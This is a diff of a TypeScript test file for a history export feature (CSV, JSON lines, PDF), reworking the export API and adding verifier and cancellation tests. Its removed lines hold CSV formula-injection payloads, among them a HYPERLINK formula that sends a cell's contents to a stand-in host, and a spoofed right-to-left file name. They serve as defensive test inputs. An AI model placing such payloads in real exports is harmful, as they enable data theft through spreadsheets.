@@ -16,10 +16,12 @@ import { tmpdir } from 'node:os'
 import { dirname, join } from 'node:path'
 import { parse } from 'csv-parse/sync'
 import { beforeEach, describe, expect, it, onTestFinished } from 'vitest'
+import { contentOf, exportTo } from '../../../test/main/export/export-cases.ts'
 import { happening } from '../../../test/main/storage/records.ts'
 import { openIn, temporaryFolder } from '../../../test/main/storage/temporary-store.ts'
 import type { HistoryEvent } from '../../shared/domain/history.ts'
-import { csvRows, writeExport } from './write-export.ts'
+import { singleLine } from '../../shared/single-line.ts'
+import { verifyFile } from '../../verifier/verify-file.ts'
 
 let path = ''
 beforeEach(() => {
@@ -103,7 +105,10 @@ const firstBadLine = (text: string): number | null => {
 describe('JSON lines', () => {
   it('are exact, one record a line, and the last line tells where they end', async () => {
     const all = events()
-    expect(await writeExport(path, 'jsonl', all)).toEqual({ ok: true, value: 30 })
+    expect(await exportTo(path, 'jsonl', contentOf(all))).toEqual({
+      ok: true,
+      value: { count: 30, shortenedTo: null, brokenSeq: null }
+    })
     const lines = readFileSync(path, 'utf8').split('\n')
     expect(lines.pop()).toBe('')
     expect(JSON.parse(lines.pop() ?? '')).toEqual({
@@ -139,87 +144,71 @@ describe('JSON lines', () => {
       3
     ]
   ])('can be checked from the file alone: %s', async (_what, tamper, bad) => {
-    await writeExport(path, 'jsonl', events())
+    await exportTo(path, 'jsonl', contentOf(events()))
     const lines = readFileSync(path, 'utf8').split('\n').slice(0, -2)
     expect(firstBadLine(`${tamper(lines).join('\n')}\n`)).toBe(bad)
   })
 })
 
-describe('CSV', () => {
-  it('has a mark for spreadsheets, names, CRLF, and every record', async () => {
+describe('some records alone', () => {
+  const some = () => {
     const all = events()
-    expect(await writeExport(path, 'csv', all)).toEqual({ ok: true, value: 30 })
+    const picked = all.filter(({ seq }) => seq % 3 !== 0)
+    const head = all.at(-1) ?? null
+    return { picked, content: contentOf(picked, { isAll: false, head }) }
+  }
+
+  it('say first of which history they are and how many, and our verifier finds them good', async () => {
+    const { picked, content } = some()
+    expect(await exportTo(path, 'jsonl', content)).toMatchObject({ value: { count: 20 } })
+    const [first, ...lines] = readFileSync(path, 'utf8').trim().split('\n')
+    expect(JSON.parse(first ?? '')).toEqual({
+      format: 'replica-desk-history-extract',
+      version: 1,
+      headSeq: 30,
+      headHash: content.head?.hash,
+      count: 20
+    })
+    expect(lines.map((line) => JSON.parse(line))).toEqual(picked)
+    const verdict = await verifyFile(path)
+    expect(verdict).toMatchObject({ what: 'history', isGood: true })
+    expect(verdict.findings.map(({ code }) => code)).toEqual(['records-good', 'extract'])
+  })
+
+  it('that do not fit their hashes are named, and written as they are', async () => {
+    const { picked, content } = some()
+    const changed = picked.map((event) =>
+      event.seq === 11 ? { ...event, assetName: 'Somebody else' } : event
+    )
+    const wrong = { ...content, records: () => changed }
+    expect(await exportTo(path, 'jsonl', wrong)).toMatchObject({ value: { brokenSeq: 11 } })
+    expect(await verifyFile(path)).toMatchObject({ isGood: false })
+  })
+})
+
+describe('CSV', () => {
+  it('has a mark for spreadsheets, names, CRLF, every record, and a column for each fact', async () => {
+    const all = events()
+    expect(await exportTo(path, 'csv', contentOf(all))).toMatchObject({ value: { count: 30 } })
     const text = readFileSync(path, 'utf8')
-    expect(text.startsWith('\uFEFFseq,at,type,accountName,')).toBe(true)
+    expect(text.startsWith('\uFEFFRecord,Local time,Time zone,UTC,Name,What happened,')).toBe(true)
     expect(text.endsWith('\r\n')).toBe(true)
     const rows: Record<string, string>[] = parse(text, { bom: true, columns: true })
-    expect(rows.map(({ seq, assetName, hash }) => [Number(seq), assetName, hash])).toEqual(
-      all.map(({ seq, assetName, hash }) => [seq, assetName, hash])
-    )
-    expect(JSON.parse(rows[3]?.['body'] ?? '')).toEqual(all[3]?.body)
-  })
-
-  it.each<[string, string]>([
-    ['=HYPERLINK("http://x?"&A1)', `'=HYPERLINK("http://x?"&A1)`],
-    ['+1', "'+1"],
-    ['-1+1', "'-1+1"],
-    ['@SUM(1)', "'@SUM(1)"],
-    ['\t=1', "'\t'=1"],
-    ['\r=1', "'\r'=1"],
-    ['\n=1', "'\n'=1"],
-    ['x;=HYPERLINK("http://x")', `x;'=HYPERLINK("http://x")`],
-    ['x; +1;-1', "x; '+1;'-1"],
-    ['x;"=1"', `x;"'=1"`],
-    ['x\t@SUM(1)', "x\t'@SUM(1)"],
-    ['x\r\n=1', "x\r\n'=1"],
-    ['x;＝1', "x;'＝1"],
-    ['x;y=1', 'x;y=1'],
-    ['  =1', "'  =1"],
-    ['\u00a0=1', "'\u00a0=1"],
-    ['\u3000=1', "'\u3000=1"],
-    ['\u0001=1', "'\u0001'=1"],
-    [' \u0001=1', "' \u0001'=1"],
-    ['＝1', "'＝1"],
-    ['＋1', "'＋1"],
-    ['－1', "'－1"],
-    ['＠A1', "'＠A1"],
-    ['"', '"'],
-    [';', ';'],
-    ['a\nb', 'a\nb'],
-    ['a=b', 'a=b'],
-    ["'=1", "'=1"],
-    ['x'.repeat(32_768), 'x'.repeat(32_768)],
-    ['\u202Egnp.exe', '\u202Egnp.exe']
-  ])('a cell of %j reads %j', (name, shown) => {
-    const [event] = events(2)
-    if (event === undefined) throw new Error('No record')
-    const [row] = parse(csvRows([{ ...event, assetName: name }])) as string[][]
-    expect(row?.[6]).toBe(shown)
-    expect(row).toHaveLength(14)
-  })
-
-  it.each([';', '\t'])('holds no formula for a spreadsheet that splits at %j', (separator) => {
-    const [event] = events(2)
-    if (event === undefined) throw new Error('No record')
-    const text = `x${separator}=1+1`
-    const rows = csvRows([
-      { ...event, assetName: text, accountName: `"${text}"`, body: { said: text } }
-    ])
-    const cells = rows.split(/[\r\n]+/).flatMap((line) => line.split(separator))
-    expect(cells.filter((part) => /^[\s"]*[=+\-@]/.test(part))).toEqual([])
-  })
-
-  it('leaves the numbers we make alone', () => {
-    const [event] = events(2)
-    if (event === undefined) throw new Error('No record')
-    const [row] = parse(csvRows([{ ...event, monotonicMs: -1.5 }])) as string[][]
-    expect(row?.[11]).toBe('-1.5')
+    expect(rows.map((row) => Number(row['Record']))).toEqual(all.map(({ seq }) => seq))
+    expect(rows[3]).toMatchObject({
+      UTC: '2026-03-01 10:00:04',
+      Name: 'a "quoted"; one, with\r\nlines',
+      Alpha: '3',
+      'Is so': 'Yes',
+      Half: '0.5'
+    })
+    expect(Object.values(rows[3] ?? {}).filter((value) => value.includes('{"'))).toEqual([])
   })
 })
 
 describe('writing', () => {
   it.each(['csv', 'jsonl'] as const)('an empty history makes an empty %s', async (format) => {
-    expect(await writeExport(path, format, [])).toEqual({ ok: true, value: 0 })
+    expect(await exportTo(path, format, contentOf([]))).toMatchObject({ value: { count: 0 } })
     expect(readFileSync(path, 'utf8').split('\n')).toHaveLength(format === 'csv' ? 2 : 1)
   })
 
@@ -242,9 +231,10 @@ describe('writing', () => {
           yield event as HistoryEvent
         }
       }
-      const written = await writeExport(path, format, counting())
+      const content = contentOf([], { records: counting })
+      const written = await exportTo(path, format, content)
       clearImmediate(next)
-      expect(written).toEqual({ ok: true, value: 5000 })
+      expect(written).toMatchObject({ ok: true, value: { count: 5000 } })
       expect(longest).toBeLessThanOrEqual(400)
     }
   )
@@ -253,7 +243,7 @@ describe('writing', () => {
     writeFileSync(path, 'old')
     const leftover = `${path}.${process.pid}.partial`
     writeFileSync(leftover, 'left by a crash')
-    expect(await writeExport(path, 'jsonl', events(2))).toMatchObject({ ok: true })
+    expect(await exportTo(path, 'jsonl', contentOf(events(2)))).toMatchObject({ ok: true })
     expect(readdirSync(dirname(path))).toEqual(['history'])
     if (process.platform !== 'win32') expect(statSync(path).mode & 0o777).toBe(0o600)
   })
@@ -269,12 +259,11 @@ describe('a failure leaves what was there, and nothing half', () => {
     writeFileSync(path, 'old')
     function* broken() {
       yield* events(2)
-      throw new Error('The database is damaged')
+      throw new Error('broken')
     }
-    expect(await writeExport(path, 'jsonl', broken())).toEqual({
-      ok: false,
-      error: { kind: 'storage-failed', reason: 'other' }
-    })
+    await expect(exportTo(path, 'jsonl', contentOf([], { records: broken }))).rejects.toThrow(
+      'broken'
+    )
     unchanged()
   })
 
@@ -299,7 +288,8 @@ describe('a failure leaves what was there, and nothing half', () => {
     expect(store.health()).toEqual({ state: 'ok' })
     const told: string[] = []
     store.onHealth(({ state }) => told.push(state))
-    expect(await writeExport(path, 'jsonl', store.read.eachHistoryEvent())).toEqual({
+    const content = contentOf([], { records: () => store.read.eachHistoryEvent() })
+    expect(await exportTo(path, 'jsonl', content)).toEqual({
       ok: false,
       error: { kind: 'storage-failed', reason: 'damaged' }
     })
@@ -307,14 +297,52 @@ describe('a failure leaves what was there, and nothing half', () => {
     unchanged()
   })
 
+  it.each(['csv', 'jsonl', 'report', 'pdf'] as const)('when it is canceled: %s', async (format) => {
+    writeFileSync(path, 'old')
+    const stop = new AbortController()
+    const all = events(2)
+    function* many() {
+      for (let index = 0; index < 1000; index += 1) {
+        if (index === 500) stop.abort()
+        yield all[0] as HistoryEvent
+      }
+    }
+    const content = contentOf([], {
+      records: many,
+      lines: function* () {
+        for (const head of many()) yield { line: singleLine(head), parts: [] }
+      }
+    })
+    expect(await exportTo(path, format, content, { signal: stop.signal })).toEqual({
+      ok: false,
+      error: { kind: 'canceled' }
+    })
+    unchanged()
+  })
+
+  it.each([
+    ['nothing', ''],
+    ['no PDF', '<html>'],
+    ['half a PDF', '%PDF-1.7\n/Type /Page\n'],
+    ['a PDF without pages', '%PDF-1.7\n%%EOF\n']
+  ])('when what was printed is %s', async (_what, printed) => {
+    writeFileSync(path, 'old')
+    const printPdf = async () => Buffer.from(printed)
+    expect(await exportTo(path, 'pdf', contentOf(events(2)), { printPdf })).toEqual({
+      ok: false,
+      error: { kind: 'storage-failed', reason: 'other' }
+    })
+    unchanged()
+  })
+
   it('when a folder has the name', async () => {
     mkdirSync(path)
-    expect(await writeExport(path, 'csv', events(2))).toMatchObject({ ok: false })
+    expect(await exportTo(path, 'csv', contentOf(events(2)))).toMatchObject({ ok: false })
     expect(readdirSync(dirname(path))).toEqual(['history'])
   })
 
   it('when the folder is gone', async () => {
-    expect(await writeExport(join(path, 'gone', 'x'), 'csv', [])).toEqual({
+    expect(await exportTo(join(path, 'gone', 'x'), 'csv', contentOf([]))).toEqual({
       ok: false,
       error: { kind: 'storage-failed', reason: 'no-access' }
     })
